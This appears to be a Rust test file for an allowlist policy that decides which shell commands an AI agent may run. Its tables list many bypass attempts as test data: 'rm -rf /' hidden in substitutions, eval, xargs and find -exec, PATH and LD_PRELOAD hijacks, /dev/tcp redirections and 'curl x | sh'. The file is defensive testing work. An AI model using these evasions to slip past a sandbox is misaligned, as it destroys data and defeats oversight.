//! Scripts under a list of commands.

use domain::Mode;
use policy::{Call, Command, Deciding, Shell, Unreadable};

use crate::support::{commands, grants, mode, script, shell, verdict};

/// What an agent of a small project may run.
const LIST: &[&str] = &[
    "git status",
    "git log *",
    "git diff *",
    "cargo test *",
    "echo *",
    "cat *",
    "ls *",
    "grep *",
    "printf *",
    "sort *",
    "wc *",
    "true",
    "test *",
    "[ *",
    "cd *",
    "sleep 1",
    "find *",
    "./build.sh",
    "python3 *",
    "head *",
    "read *",
    "export *",
    "unset *",
];

fn listed(text: &str) -> policy::Verdict {
    let mut all = commands(LIST);
    // Redirections are judged as paths.
    let paths = "{ write = ['out/**', 'out.txt', '/tmp/**'], read = ['**'] }";
    all.extend(shell("allow", paths).into_iter().map(|mut grant| {
        grant.id = crate::support::id(1);
        grant
    }));
    verdict(&all, &script(text))
}

#[test]
fn what_the_list_covers_runs_however_it_is_written() {
    let table = [
        "git status",
        "git  status ",
        "git 'status'",
        "git \"status\"",
        "gi\\t st'at'us",
        "g'i't status",
        "/usr/bin/git status",
        "git status; git log",
        "git status && git log --oneline -5",
        "git status || true",
        "git log | head -3",
        "git log | grep fix | wc -l",
        "! git diff --quiet",
        "(git status; git log)",
        "{ git status; git log; }",
        "git status &",
        "git \\\n status",
        "# only a remark: rm -rf /\ngit status",
        "git status # rm -rf /",
        "echo '$(rm -rf /)'",
        "echo \"\\$(rm -rf /)\"",
        "echo '`rm`' \"\\`rm\\`\"",
        "echo \"a; rm -rf / && b | c\"",
        "echo 'it'\\''s fine'",
        "echo \"say \\\"hi\\\"\"",
        "echo a\\ b\\;c\\|d\\&e",
        "echo $'tab\\there'",
        "echo $'it\\'s'",
        "echo $(git status)",
        "echo \"$(git log | head -1)\"",
        "echo `git status`",
        "echo \"$(echo \"$(git status)\")\"",
        "echo $(echo $(echo $(echo $(git status))))",
        "echo $HOME ${USER:-nobody} ${#PATH} $((1 + 2 * (3 - 1))) $? $$ $#",
        "echo ${x:-$(git status)}",
        "for f in *.rs; do cat \"$f\"; done",
        "while read -r line; do echo \"$line\"; done < list.txt",
        "while IFS= read -r line; do echo \"$line\"; done",
        "if git diff --quiet; then echo same; else echo other; fi",
        "case $x in a) git status ;; *) echo no ;; esac",
        "for ((i = 0; i < 3; i++)); do echo $i; done",
        "[[ -f Cargo.toml && $x == a* ]] && cargo test",
        "[ -f Cargo.toml ] && cargo test -- --nocapture",
        "f() { git status; }",
        "x=1; echo $x",
        "files=(a b 'c d'); echo \"${files[@]}\"",
        "LANG=C sort a",
        "RUST_BACKTRACE=1 cargo test",
        "env LC_ALL=C git log",
        "timeout 60 cargo test",
        "timeout -k 5 --signal=KILL 60 cargo test --workspace",
        "nohup cargo test > out.txt 2>&1 &",
        "nice -n 10 cargo test",
        "time cargo test",
        "exec git status",
        "command git status",
        "command -p git status",
        "bash -c 'git status && git log'",
        "sh -c \"git status\"",
        "bash -euo pipefail -c 'git log | head'",
        "env -i bash -c 'git status'",
        "eval 'git status'",
        "eval git log --oneline",
        "trap 'echo bye' EXIT; git status",
        "ls | xargs cat",
        "ls | xargs -0 -n 1 grep x",
        "ls | xargs -I{} cat {}",
        "find . -name '*.rs' -exec grep -l main {} +",
        "find . -type f -exec cat {} \\; -exec wc {} \\;",
        "git status > out.txt",
        "git status >> out/log 2>/dev/null",
        "git log &> out/all.txt",
        "cat < list.txt",
        "cat <<EOF\nplain $x text; rm -rf /\nEOF",
        "cat <<'EOF'\n$(rm -rf /) `rm`\nEOF",
        "cat <<EOF\n$(git status)\nEOF",
        "cat <<< \"$(git status)\"",
        "echo \"$(cat <<'EOF'\na (b) `c` $(d) case x\nEOF\n)\"",
        "sort <(git log) <(git diff)",
        "git log | grep -E '^(feat|fix)\\(.*\\)!?:'",
        "echo {a,b}{1..3}",
        "echo é🙂 日本",
        "./build.sh",
        "printf '%s\\n' \"$x\"",
        "export LANG=C; git status",
        "head -c 5 /dev/urandom > /dev/null",
    ];
    let wrong = table.map(|text| (text, listed(text)));
    let wrong: Vec<_> = wrong.iter().filter(|(_, found)| found.mode != Mode::Allow).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_the_list_does_not_cover_is_denied_wherever_it_hides() {
    let table = [
        // Other words than the list has.
        "git push",
        "git status --short",
        "git",
        "cargo build",
        "cargo-test",
        "gitstatus",
        // Behind what it does have.
        "git status; rm -rf x",
        "git status && rm x",
        "git status || rm x",
        "git status | rm x",
        "git status |& rm x",
        "git status & rm x",
        "git status\nrm x",
        "git status # x\nrm x",
        "! rm x",
        "(rm x)",
        "{ rm x; }",
        "((0)) || rm x",
        "time rm x",
        "coproc rm x",
        "coproc { rm x; }",
        // In words.
        "echo $(rm x)",
        "echo `rm x`",
        "echo \"$(rm x)\"",
        "echo \"`rm x`\"",
        "echo \"a\"b$(rm x)'c'",
        "echo $(echo $(rm x))",
        "echo $(echo $(echo $(echo $(echo $(rm x)))))",
        "echo `echo \\`rm x\\``",
        "echo \"$(echo \"$(rm x)\")\"",
        "echo ${x:-$(rm x)}",
        "echo ${x:-`rm x`}",
        "echo \"${x:+\"$(rm x)\"}\"",
        "echo ${a[$(rm x)]}",
        "echo ${x:$(rm x):1}",
        "echo ${x/a/$(rm x)}",
        "echo ${!x}${y:-${z:-$(rm x)}}",
        "echo $((1 + $(rm x)))",
        "echo $((a[$(rm x)]))",
        "echo $[ $(rm x) ]",
        "echo $\"a $(rm x)\"",
        "echo {a,$(rm x)}",
        "echo <(rm x)",
        "echo >(rm x)",
        "echo $(echo # )\nrm x\n)",
        "echo $(case x in x) rm x ;; esac)",
        "echo $( (rm x) )",
        "echo $((rm x) )",
        // In assignments, tests, loops, redirections, here-documents.
        "x=$(rm x)",
        "x=`rm x` echo",
        "x[$(rm x)]=1",
        "x=(a $(rm x))",
        "export X=$(rm x)",
        "[[ -f $(rm x) ]]",
        "[[ a == $(rm x) && b ]]",
        "[ -f \"$(rm x)\" ]",
        "case $(rm x) in a) echo ;; esac",
        "case a in $(rm x)) echo ;; esac",
        "case a in a) rm x ;; esac",
        "for x in $(rm x); do echo; done",
        "for x in a; do rm x; done",
        "for ((i=$(rm x);;)); do echo; done",
        "while rm x; do echo; done",
        "until rm x; do echo; done",
        "select x in a; do rm x; done",
        "if rm x; then echo; fi",
        "if true; then rm x; fi",
        "if true; then echo; elif rm x; then echo; else rm y; fi",
        "f() { rm x; }",
        "function f { rm x; }",
        "f() (rm x)",
        "echo > $(rm x)",
        "echo < <(rm x)",
        "echo > >(rm x)",
        "cat <<EOF\n$(rm x)\nEOF",
        "cat <<EOF\n`rm x`\nEOF",
        "cat <<EOF\n${x:-$(rm x)}\nEOF",
        "cat <<-EOF\n\t$(rm x)\n\tEOF",
        "cat <<< $(rm x)",
        "cat <<'EOF'\na\nEOF\nrm x",
        "((x = $(rm x)))",
        "a[b\nrm x",
        "a[ b ]=1",
        "echo $(cat <<'A'\nx\nA\necho; case v in rm) echo;; esac)",
        "echo `case $(cat <<A\n`rm x`\nA\n) in *) ;; esac`",
        "cat <<$(echo \"x\")\nx\n$(rm x)\n",
        // Carried by others.
        "env rm x",
        "env A=1 rm x",
        "env -u A -i rm x",
        "/usr/bin/env rm x",
        "nohup rm x",
        "timeout 5 rm x",
        "timeout -s KILL 5 rm x",
        "nice rm x",
        "nice -5 rm x",
        "stdbuf -oL rm x",
        "setsid rm x",
        "exec rm x",
        "exec -a ls rm x",
        "command rm x",
        "builtin rm x",
        "busybox rm x",
        "time -p rm x",
        "echo x | xargs rm",
        "echo x | xargs -n1 -P 4 rm -f",
        "echo x | xargs -I{} rm {}",
        "echo rm | xargs -I{} {} x",
        "echo cat | xargs -I cat cat x",
        "find . -exec rm {} ;",
        "find . -exec rm {} \\;",
        "find . -name x -execdir rm {} +",
        "find . -exec cat {} \\; -exec rm {} \\;",
        "find . -exec sh -c 'rm x' \\;",
        "find . $x",
        "sudo git status",
        "sudo rm x",
        "doas rm x",
        "env env nohup timeout 5 rm x",
        // Given as text.
        "eval rm x",
        "eval 'rm x'",
        "eval \"rm x\"",
        "eval \"$x\"",
        "eval eval eval rm x",
        "sh -c 'rm x'",
        "bash -c 'rm x'",
        "bash -ec 'git status; rm x'",
        "bash -c \"$x\"",
        "bash -lc 'git status'",
        "sh -c 'echo $(rm x)'",
        "bash -c 'bash -c \"rm x\"'",
        "zsh -c 'git status'",
        "trap 'rm x' EXIT",
        "trap \"$x\" EXIT",
        "echo 'rm x' | sh",
        "bash <<EOF\nrm x\nEOF",
        "bash -s < list.txt",
        "bash",
        "alias ls='rm x'",
        "hash -p /tmp/rm ls",
        "mapfile -C 'rm x' a",
        // Names that only show when it runs.
        "$x",
        "$x status",
        "\"$x\" status",
        "git$x status",
        "${x:-git} status",
        "$(echo git) status",
        "`echo git` status",
        "{git,status}",
        "~/git status",
        "*",
        "g?t status",
        "\"\" git status",
        // Of the right name in the wrong place.
        "/tmp/git status",
        "./git status",
        "../git status",
        "bin/git status",
        "/tmp/env git status",
        // Words that may become others.
        "git $x",
        "git \"$x\"",
        "git st*",
        "git {status,push}",
        // Variables that programs obey.
        "PATH=/tmp git status",
        "LD_PRELOAD=/tmp/x.so git status",
        "GIT_SSH_COMMAND='rm x' git log",
        "GIT_EXTERNAL_DIFF=/tmp/x git diff",
        "env RUSTC_WRAPPER=/tmp/x cargo test",
        "PATH=/tmp; git status",
        "export PATH=/tmp; git status",
        "export GIT_PAGER=/tmp/x; git log",
        "for PATH in /tmp; do git status; done",
        "read PATH; git status",
        "printf -v PATH /tmp; git status",
        "echo ${PATH:=/tmp}; git status",
        "((PATH = 1)); git status",
        "unset PATH; git status",
        "cd /tmp && ./build.sh",
        "cd out; git status > out.txt",
        "env -C /tmp ./build.sh",
        // Arithmetic runs what stands in variables.
        "x='a[$(rm x)]'; echo $((x))",
        "x='a[$(rm x)]'; [[ x -eq 1 ]]",
        "echo ${x@P}",
        // Redirections outside the list of paths.
        "git status > other.txt",
        "git status >> ../out.txt",
        "git status > out/../other",
        "git status > $x",
        "git status > ~/x",
        "git status &> other.txt",
        "git status >| other.txt",
        "echo x 2> other.txt",
        "> other.txt",
        "cat <> other.txt",
        "git status > /dev/tcp/example.com/80",
        "cat < /dev/tcp/example.com/80",
        "exec 3<>/dev/tcp/example.com/80",
        "{PATH}> out.txt echo x",
    ];
    let wrong = table.map(|text| (text, listed(text)));
    let wrong: Vec<_> = wrong.iter().filter(|(_, found)| found.mode != Mode::Deny).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_cannot_be_read_is_denied_with_its_reason_by_whatever_grants() {
    let all = grants("profile = 'full'");
    let (long, many) = ("a ".repeat(17_000), "$(".repeat(65));
    let deep = [
        "( ".repeat(20_000),
        format!("[[ {}", "( ".repeat(999)),
        "{ ".repeat(1001),
        "if ".repeat(5000),
        "function a ".repeat(2900),
        "case x in x) ".repeat(2000),
    ];
    let mut table = vec![
        "echo 'a",
        "echo \"a",
        "echo `a",
        "echo $(a",
        "echo ${a",
        "(a",
        "{ a",
        "if a",
        "if a; then",
        "a &&",
        "a |",
        "; a",
        "a ;; b",
        "case x in",
        "for",
        "a > ; b",
        "a >\nb",
        "a &>\nb",
        "cat <<$(x)\nx\n",
        "cat <<''\nx\n",
        "fi",
        "done",
        "a > ",
        "a <<",
        "a )",
        "a }; }",
        "((1",
        "[[ a",
        "f( {",
        "a\0b",
        "a\rb",
        "a\u{b}b",
        "a\u{7f}",
        "echo \"$(echo 'a)\"",
        &long,
        &many,
    ];
    table.extend(deep.iter().map(String::as_str));
    for text in table {
        let verdict = verdict(&all, &script(text));
        let start: String = text.chars().take(30).collect();
        assert_eq!((verdict.mode, verdict.rule), (Mode::Deny, Deciding::Unreadable), "{start:?}");
        assert!(verdict.sentence.ends_with('.'), "{}", verdict.sentence);
    }
    let text = Unreadable::Syntax("line 2: unexpected `fi`".to_owned()).to_string();
    assert_eq!(text, "The script cannot be read: line 2: unexpected `fi`.");
}

#[test]
fn sh_is_not_given_what_only_bash_reads_this_way() {
    let all = grants("profile = 'full'");
    let with = |text: &str, shell| {
        let mut call = script(text);
        call.touches.commands = vec![Command::Script { text: text.to_owned(), shell }];
        verdict(&all, &call)
    };
    let table = [
        "echo &> out.txt",
        "echo $'a\\'; rm x; #'",
        "echo $\"a\"",
        "cat <(ls)",
        "[[ a ]]",
        "((1))",
        "a |& b",
        "cat <<< a",
        "x=(a b)",
        "select x in a; do b; done",
        "coproc a",
        "for ((;;)); do a; done",
    ];
    for text in table {
        assert_eq!(with(text, Shell::Bash).mode, Mode::Allow, "{text}");
        let verdict = with(text, Shell::Sh);
        assert_eq!((verdict.mode, verdict.rule), (Mode::Deny, Deciding::Unreadable), "{text}");
    }
    // A shell in a script is judged by its own grammar.
    assert_eq!(with("sh -c 'echo &> x'", Shell::Bash).mode, Mode::Deny);
    assert_eq!(with("bash -c 'echo &> x'", Shell::Sh).mode, Mode::Allow);
    assert_eq!(with("echo a; ls | wc", Shell::Sh).mode, Mode::Allow);
}

#[test]
fn a_program_without_a_shell_is_its_words() {
    let all = commands(&["git log *", "sh -c 'git status'"]);
    let argv = |words: &[&str]| -> Call {
        let mut call = script("");
        call.touches.commands =
            vec![Command::Argv(words.iter().map(|word| (*word).to_owned()).collect())];
        call
    };
    assert_eq!(mode(&all, &argv(&["git", "log", "$(rm x); rm"])), Mode::Allow);
    assert_eq!(mode(&all, &argv(&["git", "push"])), Mode::Deny);
    assert_eq!(mode(&all, &argv(&["env", "git", "log"])), Mode::Allow);
    assert_eq!(mode(&all, &argv(&["env", "rm", "x"])), Mode::Deny);
    assert_eq!(mode(&all, &argv(&["sh", "-c", "git log; rm x"])), Mode::Deny);
    assert_eq!(mode(&all, &argv(&["sh", "-c", "git log"])), Mode::Allow);
    assert_eq!(mode(&all, &argv(&[])), Mode::Deny);
}

#[test]
fn a_grant_for_anything_covers_what_only_shows_when_it_runs_until_something_denies_commands() {
    let all = grants("profile = 'full'");
    for text in ["$CC main.c", "eval \"$x\"", "curl x | sh", "PATH=/tmp ls", "cat > $x"] {
        assert_eq!(mode(&all, &script(text)), Mode::Allow, "{text}");
    }
    let mut some = all;
    some.extend(shell("deny", "{ commands = ['rm *'] }"));
    for text in ["$CC main.c", "eval \"$x\"", "curl x | sh", "PATH=/tmp; ls"] {
        assert_eq!(mode(&some, &script(text)), Mode::Deny, "{text}");
    }
    assert_eq!(mode(&some, &script("ls; cc main.c")), Mode::Allow);
}
